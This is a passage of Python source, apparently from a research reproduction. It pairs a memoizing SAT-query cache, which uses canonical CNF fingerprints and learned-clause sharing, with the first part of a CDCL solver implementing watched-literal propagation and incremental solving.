queries against a CNF that differs only in absolute variable indices.
This module memoizes at that level.

**Canonical CNF fingerprint.**  A :class:`CachingSatSolver` observes the
exact clause stream fed to the backend solver and renames variables by
first occurrence (clauses in insertion order, literals in clause order).
Two clause streams that are identical up to a variable renaming that
preserves emission order — which is what the deterministic
filter → AI → Tseitin pipeline produces for repeated code shapes — hash
to the same SHA-256 fingerprint.  The hash is maintained *incrementally*
(one update per added clause, ``hash.copy()`` per query), so a solve
call costs O(new clauses + assumptions) to fingerprint, not O(formula).
Each ``solve(assumptions)`` query is keyed by the running clause-stream
hash extended with the canonically renamed assumptions, which makes the
whole blocked-enumeration sequence of the BMC checker cacheable: the
k-th query of an assertion's counterexample loop in file B hits the
entry the k-th query in shape-identical file A stored.

**Stored outcome.**  ``UNSAT`` entries store the verdict alone; ``SAT``
entries store the model restricted to the canonical variables, renamed.
On a hit the model is renamed back through the (bijective) canonical map
and completed with ``False`` for variables that appear in no clause —
exactly the value both backend solvers assign to unconstrained
variables, so replayed enumerations are verdict- and trace-identical to
solved ones.

**Learned-clause sharing.**  A model replay only helps when the *exact*
query (formula + assumptions) was seen before.  One rung below that, a
cache miss whose canonical clause stream matches a previously-solved
query can still skip most of the search: the facade stores the donor
solver's best learned clauses (top-K by LBD, canonically renamed) under
the formula's stream hash, and on a miss imports them — renamed back
through the inverse variable map — into the fresh backend before
solving.  Learned clauses are consequences of the clause set alone (the
resolution derivation folds assumption literals into the clause), so an
import into any solver over an isomorphic clause set is sound.

**Sharing.**  :class:`SatQueryCache` is the store: an in-memory LRU for
one process/run plus optional on-disk persistence using the same
git-object fan-out layout and atomic write discipline as the engine's
result cache (``<dir>/<key[:2]>/<key>.json``), so concurrent workers and
consecutive runs can share a directory safely.  Keys embed
:data:`SAT_CACHE_VERSION` and the backend name, so format changes and
backend-specific models never alias.
"""

from __future__ import annotations

import hashlib
import json
import os
import tempfile
from collections import OrderedDict
from collections.abc import Iterable
from pathlib import Path

from repro.sat.cnf import CNF
from repro.sat.solver import SolveResult, SolverStats

__all__ = ["SAT_CACHE_VERSION", "SatQueryCache", "CachingSatSolver"]

#: Bump whenever the fingerprint scheme or record layout changes; stale
#: on-disk entries then become misses instead of wrong answers.
#: (2: learned-clause records joined the keyspace and the CDCL backend
#: became incremental, which changes the counters embedded in records.)
SAT_CACHE_VERSION = "2"


class SatQueryCache:
    """Fingerprint → solve-outcome store shared across solver instances.

    In-memory LRU bounded by ``max_entries``; with ``persist_dir`` set,
    entries are additionally written to disk (atomic temp-file + rename,
    tolerating concurrent writers) and disk lookups backfill the LRU.
    Picklable: the LRU contents are dropped on pickling so shipping the
    cache to spawn-start workers stays cheap — workers re-warm from disk.
    """

    def __init__(self, persist_dir: str | Path | None = None, max_entries: int = 65536) -> None:
        self.persist_dir = Path(persist_dir) if persist_dir is not None else None
        self.max_entries = max_entries
        self._memo: OrderedDict[str, dict] = OrderedDict()
        #: Process-local probe counters (informational; the per-solve
        #: counters that feed reports live in SolverStats).
        self.hits = 0
        self.misses = 0
        self.learned_hits = 0
        self.learned_stores = 0

    # -- pickling ---------------------------------------------------------

    def __getstate__(self) -> dict:
        return {
            "persist_dir": self.persist_dir,
            "max_entries": self.max_entries,
        }

    def __setstate__(self, state: dict) -> None:
        self.__init__(state["persist_dir"], state["max_entries"])

    # -- store ------------------------------------------------------------

    def _path(self, key: str) -> Path:
        assert self.persist_dir is not None
        return self.persist_dir / key[:2] / f"{key}.json"

    @staticmethod
    def _valid(record: object) -> bool:
        return (
            isinstance(record, dict)
            and isinstance(record.get("sat"), bool)
            and isinstance(record.get("true"), list)
            and all(isinstance(v, int) for v in record["true"])
        )

    def get(self, key: str) -> dict | None:
        record = self._memo.get(key)
        if record is not None:
            self._memo.move_to_end(key)
            self.hits += 1
            return record
        if self.persist_dir is not None:
            path = self._path(key)
            try:
                record = json.loads(path.read_text())
            except (OSError, ValueError):
                record = None
            if record is not None and self._valid(record):
                self._remember(key, record)
                self.hits += 1
                return record
            if record is not None:  # corrupt: evict
                try:
                    path.unlink()
                except OSError:
                    pass
        self.misses += 1
        return None

    def put(self, key: str, record: dict) -> None:
        self._remember(key, record)
        if self.persist_dir is None:
            return
        path = self._path(key)
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            fd, tmp = tempfile.mkstemp(dir=str(path.parent), suffix=".tmp")
            try:
                with os.fdopen(fd, "w") as handle:
                    json.dump(record, handle, sort_keys=True)
                os.replace(tmp, path)
            except OSError:
                try:
                    os.unlink(tmp)
                except OSError:
                    pass
        except OSError:
            pass  # persistence is best-effort; the LRU entry stands

    def _remember(self, key: str, record: dict) -> None:
        self._memo[key] = record
        self._memo.move_to_end(key)
        while len(self._memo) > self.max_entries:
            self._memo.popitem(last=False)

    # -- learned-clause records -------------------------------------------

    @staticmethod
    def _valid_learned(record: object) -> bool:
        return (
            isinstance(record, dict)
            and isinstance(record.get("learned"), list)
            and all(
                isinstance(entry, list)
                and len(entry) >= 2
                and all(isinstance(x, int) for x in entry)
                for entry in record["learned"]
            )
        )

    def get_learned(self, key: str) -> list[list[int]] | None:
        """Learned-clause record lookup (``[[lbd, lit, ...], ...]``).

        Deliberately does *not* touch :attr:`hits`/:attr:`misses` — those
        count model-replay probes; learned-clause probes are a secondary
        accelerator whose effect shows up in ``learned_imported``."""
        record = self._memo.get(key)
        if record is not None:
            self._memo.move_to_end(key)
            self.learned_hits += 1
            return record["learned"]
        if self.persist_dir is not None:
            path = self._path(key)
            try:
                record = json.loads(path.read_text())
            except (OSError, ValueError):
                record = None
            if record is not None and self._valid_learned(record):
                self._remember(key, record)
                self.learned_hits += 1
                return record["learned"]
            if record is not None:  # corrupt: evict
                try:
                    path.unlink()
                except OSError:
                    pass
        return None

    def put_learned(self, key: str, entries: list[list[int]]) -> None:
        self.learned_stores += 1
        self.put(key, {"learned": entries})

    def __len__(self) -> int:
        return len(self._memo)


class CachingSatSolver:
    """Memoizing facade over a backend solver.

    Implements the incremental-solver surface the BMC checker uses
    (``add_formula`` / ``add_clause`` / ``solve(assumptions)``) and
    delegates to ``inner`` (a :class:`~repro.sat.solver.CDCLSolver` or
    :class:`~repro.sat.dpll.IncrementalDPLL`) on misses.  Hits skip the
    backend entirely and replay the stored model through the inverse
    canonical renaming.  Per-call :class:`SolverStats` report exactly one
    of ``cache_hits``/``cache_misses`` per solve, so existing stats
    plumbing surfaces the hit rate end to end.
    """

    def __init__(
        self,
        inner,
        cache: SatQueryCache,
        backend: str = "cdcl",
        learned_export_min_conflicts: int = 8,
        share_learned: bool = True,
    ) -> None:
        self._inner = inner
        self._cache = cache
        #: False disables cross-query lemma exchange entirely (ablation
        #: baselines and backends whose lemmas are not exportable).
        self._share_learned = share_learned
        #: Only persist lemmas from solves that did real search work —
        #: importing a trivial query's lemmas saves less than the probe
        #: and write cost.
        self._export_min_conflicts = learned_export_min_conflicts
        self._canon: dict[int, int] = {}  # original var -> canonical var
        self._max_var = 0
        #: Clauses not yet fed to ``inner``: the backend is materialized
        #: lazily, on the first cache *miss*.  A fully-warm enumeration
        #: never pays the backend's clause-database / watch-list setup —
        #: on repeated-shape corpora that setup dominates the hit path.
        self._pending: list[CNF | tuple[int, ...]] = []
        seed = hashlib.sha256()
        seed.update(b"repro-sat-cache\x00")
        seed.update(SAT_CACHE_VERSION.encode())
        seed.update(b"\x00")
        seed.update(backend.encode())
        seed.update(b"\x00")
        self._hash = seed
        self.stats = SolverStats()
        #: Canonical-CNF fingerprint of the most recent solve() — the slow-
        #: query ledger's stable cross-node query identity.
        self.last_query_key: str | None = None
        #: Winning portfolio configuration of the most recent solve, when
        #: the backend races one (None on cache hits and plain backends).
        self.last_winner: str | None = None
        #: Formula-stream keys whose learned clauses were already imported
        #: into this backend instance (never import the same lemma set
        #: twice, including the set this instance itself exported).
        self._learned_seen: set[str] = set()

    # -- canonicalization --------------------------------------------------

    def _feed(self, literals: Iterable[int]) -> None:
        canon = self._canon
        parts: list[str] = []
        max_var = self._max_var
        for lit in literals:
            var = abs(lit)
            if var > max_var:
                max_var = var
            c = canon.get(var)
            if c is None:
                c = len(canon) + 1
                canon[var] = c
            parts.append(str(c) if lit > 0 else str(-c))
        self._max_var = max_var
        self._hash.update(",".join(parts).encode())
        self._hash.update(b";")

    # -- solver surface ----------------------------------------------------

    def add_formula(self, formula: CNF) -> None:
        for clause in formula.clauses:
            self._feed(clause)
        self._max_var = max(self._max_var, formula.num_vars)
        self._pending.append(formula)

    def add_clause(self, literals: Iterable[int]) -> None:
        lits = tuple(literals)
        self._feed(lits)
        self._pending.append(lits)

    def _flush(self) -> None:
        for item in self._pending:
            if isinstance(item, CNF):
                self._inner.add_formula(item)
            else:
                self._inner.add_clause(item)
        self._pending.clear()

    def solve(
        self,
        assumptions: Iterable[int] = (),
        conflict_budget: int | None = None,
    ) -> SolveResult:
        assumptions = tuple(assumptions)
        key = self._query_key(assumptions)
        # Exposed for observability: the BMC checker records this as the
        # slow-query ledger fingerprint, tying hard queries back to their
        # canonical-CNF cache entries.
        self.last_query_key = key
        self.last_winner = None
        record = self._cache.get(key)
        if record is not None:
            self.stats = SolverStats(cache_hits=1)
            if not record["sat"]:
                return SolveResult(satisfiable=False, stats=self.stats)
            return SolveResult(
                satisfiable=True,
                model=self._replay_model(record["true"], assumptions),
                stats=self.stats,
            )
        self._flush()
        if self._share_learned:
            self._import_learned()
        result = self._inner.solve(
            assumptions=assumptions, conflict_budget=conflict_budget
        )
        self.stats = result.stats
        self.last_winner = getattr(self._inner, "last_winner", None)
        result.stats.cache_misses += 1
        if (
            self._share_learned
            and result.satisfiable is not None
            and result.stats.conflicts >= self._export_min_conflicts
        ):
            self._export_learned()
        if result.satisfiable is True and result.model is not None:
            self._cache.put(
                key,
                {
                    "sat": True,
                    "true": sorted(
                        c for orig, c in self._canon.items() if result.model.get(orig)
                    ),
                },
            )
        elif result.satisfiable is False:
            self._cache.put(key, {"sat": False, "true": []})
        return result

    def _query_key(self, assumptions: tuple[int, ...]) -> str:
        """Clause-stream hash extended with the renamed assumptions.

        Assumption variables that never appeared in a clause get
        per-query overlay ids (not committed to the canonical map, so a
        later clause mentioning them still canonicalizes identically
        whether or not this query happened).
        """
        query = self._hash.copy()
        overlay: dict[int, int] = {}
        parts: list[str] = []
        for lit in assumptions:
            var = abs(lit)
            c = self._canon.get(var)
            if c is None:
                c = overlay.get(var)
                if c is None:
                    c = len(self._canon) + len(overlay) + 1
                    overlay[var] = c
            parts.append(str(c) if lit > 0 else str(-c))
        query.update(b"|")
        query.update(",".join(parts).encode())
        return query.hexdigest()

    # -- cross-query learned-clause sharing --------------------------------

    def _formula_key(self) -> str:
        """Key of the learned-clause record for the current clause stream.

        Lives in its own namespace (``|learned`` marker, which no
        assumption rendering can produce) so it never aliases a query
        key."""
        fkey = self._hash.copy()
        fkey.update(b"|learned")
        return fkey.hexdigest()

    def _import_learned(self) -> None:
        """On a miss, seed the backend with the lemmas a previous solver
        learned over an isomorphic clause stream (renamed back through
        the inverse of the canonical map)."""
        importer = getattr(self._inner, "import_learned", None)
        if importer is None:
            return
        fkey = self._formula_key()
        if fkey in self._learned_seen:
            return
        self._learned_seen.add(fkey)
        entries = self._cache.get_learned(fkey)
        if not entries:
            return
        inverse = {c: orig for orig, c in self._canon.items()}
        records: list[tuple[list[int], int]] = []
        for entry in entries:
            lbd, canon_lits = entry[0], entry[1:]
            lits: list[int] = []
            for lit in canon_lits:
                orig = inverse.get(abs(lit))
                if orig is None:
                    break  # donor variable outside this stream: skip clause
                lits.append(orig if lit > 0 else -orig)
            else:
                records.append((lits, lbd))
        if records:
            importer(records)

    def _export_learned(self, limit: int = 64) -> None:
        """After a miss is solved, persist the backend's best lemmas under
        the formula's stream key (canonically renamed) so isomorphic
        future queries can import them."""
        exporter = getattr(self._inner, "export_learned", None)
        if exporter is None:
            return
        entries: list[list[int]] = []
        for lits, lbd in exporter(limit=limit):
            canon_lits: list[int] = []
            for lit in lits:
                c = self._canon.get(abs(lit))
                if c is None:
                    break  # clause mentions an assumption-only variable
                canon_lits.append(c if lit > 0 else -c)
            else:
                entries.append([lbd] + canon_lits)
        if entries:
            fkey = self._formula_key()
            self._learned_seen.add(fkey)
            self._cache.put_learned(fkey, entries)

    def _replay_model(
        self, true_canon: list[int], assumptions: tuple[int, ...]
    ) -> dict[int, bool]:
        true_set = set(true_canon)
        model = {orig: c in true_set for orig, c in self._canon.items()}
        for var in range(1, self._max_var + 1):
            model.setdefault(var, False)
        # Assumption variables outside every clause are unconstrained
        # except by the assumption itself; honor it.
        for lit in assumptions:
            if abs(lit) not in self._canon:
                model[abs(lit)] = lit > 0
        return model
