"""CDCL SAT solver — the reproduction's stand-in for ZChaff [19].

The paper solves its BMC formulas with ZChaff; offline we implement the
same algorithm family ZChaff introduced:

* unit propagation with **two watched literals** (no per-assignment clause
  scans, cheap backtracking),
* **VSIDS** decision heuristic with periodic score decay,
* **first-UIP conflict clause learning** with non-chronological
  backjumping,
* **geometric restarts**, and
* learned-clause database reduction by activity.

The public entry points are :meth:`CDCLSolver.solve` (one-shot) and the
incremental pattern used by the BMC engine: keep one solver instance, call
:meth:`add_clause` to append blocking clauses between :meth:`solve` calls.

Incremental mode (the default) keeps VSIDS scores, saved phases, and the
learned-clause database alive across calls, reuses the shared
assumption-prefix of the trail between consecutive solves instead of
re-propagating from level 0, and accepts clauses mid-search without
rewinding further than watch soundness requires.  Root-level units added
between solves (e.g. a retired assertion gate ``add_clause((-act,))``)
schedule a lazy sweep that deletes clauses the new root assignment
satisfies — dead blocking clauses disappear instead of burdening every
later propagation.  Constructing with ``incremental=False`` restores the
historical solve-from-scratch behaviour (and the original linear-scan
decision loop), which the benchmarks use as the ablation baseline.

The solver is deliberately free of NumPy so that its behaviour is easy to
audit; BMC formulas derived from loop-free abstract interpretations are
small enough that pure Python is comfortable.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass, field, fields as dataclass_fields
from heapq import heappop, heappush

from repro.sat.cnf import CNF

__all__ = [
    "CDCLSolver",
    "SolveResult",
    "SolverStats",
    "accumulate_stats",
    "stat_counter",
]


_UNASSIGNED = 0
_TRUE = 1
_FALSE = -1

#: Learned clauses with an LBD at or below this are "glue" clauses
#: (Audemard & Simon) and survive every database reduction.
_GLUE_LBD = 2


def stat_counter(aggregate: str = "sum") -> int:
    """Declare a :class:`SolverStats` counter with its cross-call
    aggregation rule (``"sum"`` or ``"max"``).  Consumers that fold many
    solve calls into one total (the BMC checker, the engine) discover the
    rule from field metadata, so adding a counter here is enough to make
    it flow through every aggregate."""
    if aggregate not in ("sum", "max"):
        raise ValueError(f"unknown aggregation {aggregate!r}")
    return field(default=0, metadata={"aggregate": aggregate})


@dataclass
class SolverStats:
    """Counters exposed for the ABL-SAT ablation benchmarks and the
    engine's observability layer.

    Every field carries an ``aggregate`` metadata entry (see
    :func:`stat_counter`); :func:`accumulate_stats` uses it to combine
    per-call stats into run totals without a hardcoded field list.
    """

    decisions: int = stat_counter()
    propagations: int = stat_counter()
    conflicts: int = stat_counter()
    learned_clauses: int = stat_counter()
    restarts: int = stat_counter()
    max_decision_level: int = stat_counter("max")
    deleted_clauses: int = stat_counter()
    #: Learned clauses dropped by LBD-aware database reduction.
    lbd_deletions: int = stat_counter()
    #: Problem clauses simplified away (or strengthened) at add time:
    #: tautologies, duplicate literals, clauses satisfied at root level,
    #: root-false literal stripping, and top-level unit propagation.
    preprocessed_clauses: int = stat_counter()
    #: SAT-level query-cache counters (populated by
    #: :class:`repro.sat.cache.CachingSatSolver`, zero otherwise).
    cache_hits: int = stat_counter()
    cache_misses: int = stat_counter()
    #: Learned clauses imported from an isomorphic previously-solved
    #: query (see :meth:`CDCLSolver.import_learned` and the SAT cache's
    #: learned-clause store).
    learned_imported: int = stat_counter()
    #: Clauses deleted by the lazy root-satisfied sweep that runs after a
    #: root unit lands between solves (retired gates kill their blocking
    #: clauses this way).
    root_satisfied_deleted: int = stat_counter()
    #: Solve calls that kept at least one assumption level from the
    #: previous call instead of rewinding to level 0.
    assumption_prefix_reused: int = stat_counter()
    #: Portfolio-mode counters (populated by
    #: :class:`repro.sat.portfolio.PortfolioSolver`, zero otherwise):
    #: races actually run, and conflicts spent by losing configurations.
    portfolio_races: int = stat_counter()
    portfolio_wasted_conflicts: int = stat_counter()


def accumulate_stats(totals: dict[str, int], stats: "SolverStats") -> None:
    """Fold one solve call's counters into ``totals`` in place, honoring
    each field's declared aggregation rule (sum or max)."""
    for stat_field in dataclass_fields(stats):
        value = getattr(stats, stat_field.name)
        if stat_field.metadata.get("aggregate") == "max":
            totals[stat_field.name] = max(totals.get(stat_field.name, 0), value)
        else:
            totals[stat_field.name] = totals.get(stat_field.name, 0) + value


@dataclass
class SolveResult:
    """Outcome of a solve call.

    ``satisfiable`` is None when the solver hit ``conflict_budget``
    (unknown); otherwise ``model`` maps every variable to a boolean when
    satisfiable and is None when unsatisfiable.
    """

    satisfiable: bool | None
    model: dict[int, bool] | None = None
    stats: SolverStats = field(default_factory=SolverStats)

    def true_literals(self) -> set[int]:
        if self.model is None:
            return set()
        return {v if value else -v for v, value in self.model.items()}


class _Clause:
    __slots__ = ("literals", "learned", "activity", "lbd")

    def __init__(self, literals: list[int], learned: bool = False, lbd: int = 0) -> None:
        self.literals = literals
        self.learned = learned
        self.activity = 0.0
        #: Literal Block Distance — number of distinct decision levels in
        #: the clause at learning time (Audemard & Simon, "glucose").
        #: Low-LBD clauses are empirically the most reusable; database
        #: reduction keeps them preferentially.
        self.lbd = lbd


class CDCLSolver:
    """Conflict-driven clause-learning solver over integer literals."""

    def __init__(
        self,
        formula: CNF | None = None,
        var_decay: float = 0.95,
        clause_decay: float = 0.999,
        restart_first: int = 100,
        restart_factor: float = 1.5,
        restart_strategy: str = "geometric",
        phase_saving: bool = True,
        learned_limit_factor: float = 2.0,
        seed: int = 0,
        incremental: bool = True,
    ) -> None:
        self._num_vars = 0
        self._clauses: list[_Clause] = []
        self._learned: list[_Clause] = []
        # watches[lit] = clauses currently watching literal `lit`
        self._watches: dict[int, list[_Clause]] = {}
        self._assign: list[int] = [_UNASSIGNED]  # 1-indexed by variable
        self._level: list[int] = [0]
        self._reason: list[_Clause | None] = [None]
        self._trail: list[int] = []
        self._trail_lim: list[int] = []
        self._activity: list[float] = [0.0]
        self._var_inc = 1.0
        self._var_decay = var_decay
        self._cla_inc = 1.0
        self._cla_decay = clause_decay
        self._restart_first = restart_first
        self._restart_factor = restart_factor
        if restart_strategy not in ("geometric", "luby"):
            raise ValueError(f"unknown restart strategy {restart_strategy!r}")
        self._restart_strategy = restart_strategy
        self._phase_saving = phase_saving
        self._saved_phase: list[bool] = [False]  # 1-indexed by variable
        self._learned_limit_factor = learned_limit_factor
        self._seed = seed
        self._incremental = incremental
        #: Assumption literals currently installed on the trail;
        #: assumption i occupies decision level i+1.  Trimmed by
        #: :meth:`_backtrack` so the list always mirrors the trail.
        self._assumptions: list[int] = []
        #: Lazy-deletion priority queue of (-activity, var); stale entries
        #: (assigned vars, outdated activities) are discarded or refreshed
        #: at pop time.  Only consulted in incremental mode.
        self._order_heap: list[tuple[float, int]] = []
        #: Persistent scratch buffer for conflict analysis (incremental
        #: mode): avoids an O(num_vars) allocation per conflict.
        self._seen: list[bool] = [False]
        self._root_conflict = False
        self._propagate_head = 0
        #: A root-level unit landed via add_clause since the last sweep;
        #: the next solve() entered at level 0 deletes every clause the
        #: strengthened root assignment satisfies.  The sweep itself is an
        #: O(clause database) scan, so it runs geometrically: only once
        #: the root trail has doubled since the previous sweep (total
        #: sweep work stays O(F log U) per file instead of O(F·U)).
        self._dead_sweep_pending = False
        self._swept_trail_len = 0
        #: Clauses simplified at add time since the last solve() call;
        #: snapshot into that call's stats so no counting is lost to the
        #: per-call stats reset.
        self._pending_preprocessed = 0
        #: Clauses accepted by import_learned() since the last solve().
        self._pending_imported = 0
        self.stats = SolverStats()
        if formula is not None:
            self.add_formula(formula)

    # -- problem construction -------------------------------------------

    def _ensure_var(self, var: int) -> None:
        while self._num_vars < var:
            self._num_vars += 1
            v = self._num_vars
            self._assign.append(_UNASSIGNED)
            self._level.append(0)
            self._reason.append(None)
            self._seen.append(False)
            if self._seed:
                # Deterministic per-(seed, var) jitter: perturbs VSIDS
                # tie-breaks and initial phases so differently-seeded
                # solvers explore genuinely different search trees.
                h = (v * 0x9E3779B1 + self._seed * 0x85EBCA77) & 0xFFFFFFFF
                h ^= h >> 16
                h = (h * 0x045D9F3B) & 0xFFFFFFFF
                h ^= h >> 16
                self._activity.append((h / 4294967296.0) * 1e-6)
                self._saved_phase.append(bool(h & 1))
            else:
                self._activity.append(0.0)
                self._saved_phase.append(False)
            heappush(self._order_heap, (-self._activity[v], v))

    def add_formula(self, formula: CNF) -> None:
        self._ensure_var(formula.num_vars)
        for clause in formula.clauses:
            self.add_clause(clause)

    def add_clause(self, literals: Iterable[int]) -> None:
        """Add a problem clause.  Safe to call between solve() calls.

        In incremental mode the in-progress assignment is preserved: the
        trail is rewound only as far as watch soundness requires (a clause
        arriving fully falsified forces a backjump to the level where it
        becomes unit).  In non-incremental mode the historical behaviour —
        rewind to level 0 on every add — is kept.

        Preprocessing happens here, before the clause ever reaches the
        watch lists: tautologies and duplicate literals are eliminated,
        root-false literals stripped, root-satisfied clauses dropped, and
        unit clauses propagated to fixpoint immediately so later adds see
        the strengthened root assignment (top-level unit propagation).
        """
        if not self._incremental:
            self._backtrack(0)
        dedup = False
        lits: list[int] = []
        seen: set[int] = set()
        for lit in literals:
            if lit == 0:
                raise ValueError("0 is not a valid literal")
            if -lit in seen:
                self._pending_preprocessed += 1
                return  # tautology
            if lit in seen:
                dedup = True
                continue
            seen.add(lit)
            lits.append(lit)
            self._ensure_var(abs(lit))
        if not lits:
            self._root_conflict = True
            return
        # Drop literals already false at level 0; satisfy check for
        # root-true ones.  Assignments above level 0 (kept trail) are
        # transient and must not simplify the clause.
        fixed: list[int] = []
        for lit in lits:
            val = self._value(lit)
            if val == _UNASSIGNED or self._level[abs(lit)] > 0:
                fixed.append(lit)
                continue
            if val == _TRUE:
                self._pending_preprocessed += 1
                return  # already satisfied at root
            # root-false: stripped
        if dedup or len(fixed) < len(lits):
            self._pending_preprocessed += 1
        if not fixed:
            self._root_conflict = True
            return
        if len(fixed) == 1:
            # Root-implied unit: force it at level 0 (rewinding any kept
            # trail) and propagate to fixpoint so later adds see the
            # strengthened root assignment.
            self._pending_preprocessed += 1
            self._backtrack(0)
            # Propagate against a scratch stats object: the previous
            # solve's SolveResult still references self.stats, and
            # add-time propagation must not mutate an already-reported
            # result.
            saved_stats, self.stats = self.stats, SolverStats()
            try:
                if not self._enqueue(fixed[0], None) or self._propagate() is not None:
                    self._root_conflict = True
            finally:
                self.stats = saved_stats
            self._dead_sweep_pending = True
            return
        if self._decision_level() == 0:
            # All surviving literals are unassigned: plain install.
            clause = _Clause(fixed)
            self._clauses.append(clause)
            self._watch(clause)
            return
        self._attach_clause(fixed, learned=False, lbd=0)

    def _attach_clause(self, lits: list[int], learned: bool, lbd: int) -> _Clause:
        """Install a clause (>= 2 literals, none root-fixed) without
        rewinding to level 0.

        Watch soundness only needs both watched literals to be non-false
        at attach time.  A clause arriving fully falsified is handled by
        backjumping to the deepest level at which it stops being
        conflicting: if its highest-level literal is unique the clause
        becomes unit there (and is enqueued), otherwise at least two
        literals free up.
        """
        if all(self._value(lit) == _FALSE for lit in lits):
            levels = sorted((self._level[abs(lit)] for lit in lits), reverse=True)
            target = levels[1] if levels[0] > levels[1] else levels[0] - 1
            self._backtrack(target)
        nonfalse = [lit for lit in lits if self._value(lit) != _FALSE]
        falses = sorted(
            (lit for lit in lits if self._value(lit) == _FALSE),
            key=lambda lit: -self._level[abs(lit)],
        )
        clause = _Clause(nonfalse + falses, learned=learned, lbd=lbd)
        (self._learned if learned else self._clauses).append(clause)
        self._watch(clause)
        if len(nonfalse) == 1 and self._value(nonfalse[0]) == _UNASSIGNED:
            # Unit under the current assignment: assert it here with the
            # new clause as reason (scratch stats — see add_clause).
            saved_stats, self.stats = self.stats, SolverStats()
            try:
                self._enqueue(nonfalse[0], clause)
            finally:
                self.stats = saved_stats
        return clause

    def _watch(self, clause: _Clause) -> None:
        for lit in clause.literals[:2]:
            self._watches.setdefault(lit, []).append(clause)

    # -- learned-clause exchange ------------------------------------------

    def export_learned(
        self, limit: int = 64, max_lbd: int = 4, max_len: int = 16
    ) -> list[tuple[list[int], int]]:
        """Snapshot the most reusable learned clauses as
        ``(literals, lbd)`` pairs, best (lowest LBD, then shortest) first.

        Used by the SAT cache to persist lemmas per canonical formula so
        an isomorphic future query can start from them instead of from
        nothing."""
        pool = [
            c
            for c in self._learned
            if c.lbd <= max_lbd and len(c.literals) <= max_len
        ]
        pool.sort(key=lambda c: (c.lbd, len(c.literals)))
        return [(sorted(c.literals, key=abs), c.lbd) for c in pool[:limit]]

    def import_learned(self, records: Iterable[tuple[list[int], int]]) -> int:
        """Install learned clauses exported from a solver that saw an
        equisatisfiable clause set (e.g. the same canonical formula under
        the cache's renaming).  Returns the number of clauses accepted.

        Imported clauses are root-simplified like problem clauses but
        join the *learned* database, so they keep their LBD (glue survives
        reduction) and can be dropped again under memory pressure."""
        count = 0
        for lits, lbd in records:
            if self._root_conflict:
                break
            simplified: list[int] = []
            seen: set[int] = set()
            satisfied = False
            for lit in lits:
                if lit == 0 or -lit in seen:
                    satisfied = True  # malformed/tautological: skip record
                    break
                if lit in seen:
                    continue
                seen.add(lit)
                self._ensure_var(abs(lit))
                val = self._value(lit)
                if val != _UNASSIGNED and self._level[abs(lit)] == 0:
                    if val == _TRUE:
                        satisfied = True
                        break
                    continue  # root-false: stripped
                simplified.append(lit)
            if satisfied:
                continue
            if not simplified:
                # The lemma is false under the root assignment — and it is
                # implied by the clause set, so the formula is root-UNSAT.
                self._root_conflict = True
                count += 1
                break
            if len(simplified) == 1:
                self._backtrack(0)
                saved_stats, self.stats = self.stats, SolverStats()
                try:
                    if (
                        not self._enqueue(simplified[0], None)
                        or self._propagate() is not None
                    ):
                        self._root_conflict = True
                finally:
                    self.stats = saved_stats
                self._dead_sweep_pending = True
                count += 1
                continue
            self._attach_clause(simplified, learned=True, lbd=lbd or len(simplified))
            count += 1
        self._pending_imported += count
        return count

    # -- assignment primitives -------------------------------------------

    def _value(self, lit: int) -> int:
        val = self._assign[abs(lit)]
        if val == _UNASSIGNED:
            return _UNASSIGNED
        return val if lit > 0 else -val

    def _decision_level(self) -> int:
        return len(self._trail_lim)

    def _enqueue(self, lit: int, reason: _Clause | None) -> bool:
        val = self._value(lit)
        if val == _TRUE:
            return True
        if val == _FALSE:
            return False
        var = abs(lit)
        self._assign[var] = _TRUE if lit > 0 else _FALSE
        if self._phase_saving:
            self._saved_phase[var] = lit > 0
        self._level[var] = self._decision_level()
        self._reason[var] = reason
        self._trail.append(lit)
        self.stats.propagations += 1
        return True

    def _backtrack(self, level: int) -> None:
        if self._decision_level() <= level:
            return
        limit = self._trail_lim[level]
        heap = self._order_heap
        for lit in reversed(self._trail[limit:]):
            var = abs(lit)
            self._assign[var] = _UNASSIGNED
            self._reason[var] = None
            heappush(heap, (-self._activity[var], var))
        del self._trail[limit:]
        del self._trail_lim[level:]
        if level < len(self._assumptions):
            del self._assumptions[level:]
        self._propagate_head = min(self._propagate_head, len(self._trail))

    # -- dead-clause sweeping ----------------------------------------------

    def _sweep_root_satisfied(self) -> None:
        """Delete every clause satisfied by the root assignment.

        Runs lazily (next solve() that starts at level 0 after a root
        unit landed between solves).  The motivating case is a retired
        assertion gate: ``add_clause((-act,))`` fixes ``-act`` at root,
        which makes the gate clause and every ``-act``-tagged blocking
        clause from that assertion's enumeration permanently satisfied —
        dead weight in the watch lists otherwise."""
        self._dead_sweep_pending = False
        self._swept_trail_len = len(self._trail)
        removed = 0
        assign = self._assign
        for attr in ("_clauses", "_learned"):
            store: list[_Clause] = getattr(self, attr)
            kept: list[_Clause] = []
            for clause in store:
                satisfied = False
                for lit in clause.literals:
                    if lit > 0:
                        if assign[lit] == _TRUE:
                            satisfied = True
                            break
                    elif assign[-lit] == _FALSE:
                        satisfied = True
                        break
                if satisfied:
                    for lit in clause.literals[:2]:
                        watchers = self._watches.get(lit)
                        if watchers is not None:
                            try:
                                watchers.remove(clause)
                            except ValueError:
                                pass
                    removed += 1
                else:
                    kept.append(clause)
            setattr(self, attr, kept)
        if removed:
            # Root assignments never participate in conflict analysis, so
            # their reason clauses (possibly just swept) can be dropped.
            for lit in self._trail:
                self._reason[abs(lit)] = None
        self.stats.root_satisfied_deleted += removed

    # -- unit propagation (two watched literals) --------------------------

    def _propagate(self) -> _Clause | None:
        """Propagate all pending assignments; return a conflicting clause or None."""
        while self._propagate_head < len(self._trail):
            lit = self._trail[self._propagate_head]
            self._propagate_head += 1
            false_lit = -lit
            watchers = self._watches.get(false_lit)
            if not watchers:
                continue
            new_watchers: list[_Clause] = []
            conflict: _Clause | None = None
            i = 0
            while i < len(watchers):
                clause = watchers[i]
                i += 1
                lits = clause.literals
                # Ensure the false literal is in slot 1.
                if lits[0] == false_lit:
                    lits[0], lits[1] = lits[1], lits[0]
                first = lits[0]
                if self._value(first) == _TRUE:
                    new_watchers.append(clause)
                    continue
                # Look for a replacement watch.
                moved = False
                for k in range(2, len(lits)):
                    if self._value(lits[k]) != _FALSE:
                        lits[1], lits[k] = lits[k], lits[1]
                        self._watches.setdefault(lits[1], []).append(clause)
                        moved = True
                        break
                if moved:
                    continue
                # Clause is unit or conflicting.
                new_watchers.append(clause)
                if not self._enqueue(first, clause):
                    conflict = clause
                    # keep remaining watchers registered
                    new_watchers.extend(watchers[i:])
                    break
            self._watches[false_lit] = new_watchers
